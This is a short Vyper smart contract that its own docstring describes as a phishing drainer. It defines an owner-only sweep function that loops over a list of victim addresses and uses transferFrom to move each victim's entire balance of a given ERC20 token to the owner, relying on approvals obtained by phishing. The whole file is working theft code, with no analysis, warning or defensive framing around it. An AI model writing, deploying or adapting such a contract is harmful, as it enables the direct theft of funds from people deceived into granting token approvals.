# pragma version ~=0.4.0
"""A phishing drainer: victims approve it, then its owner sweeps their tokens in one call."""

interface ERC20:
    def transferFrom(owner: address, receiver: address, amount: uint256) -> bool: nonpayable
    def balanceOf(holder: address) -> uint256: view

owner: public(address)


@deploy
def __init__():
    self.owner = msg.sender


@external
def sweep(token: address, victims: DynArray[address, 32]):
    assert msg.sender == self.owner, "only the owner"
    for victim: address in victims:
        amount: uint256 = staticcall ERC20(token).balanceOf(victim)
        if amount > 0:
            extcall ERC20(token).transferFrom(victim, self.owner, amount)
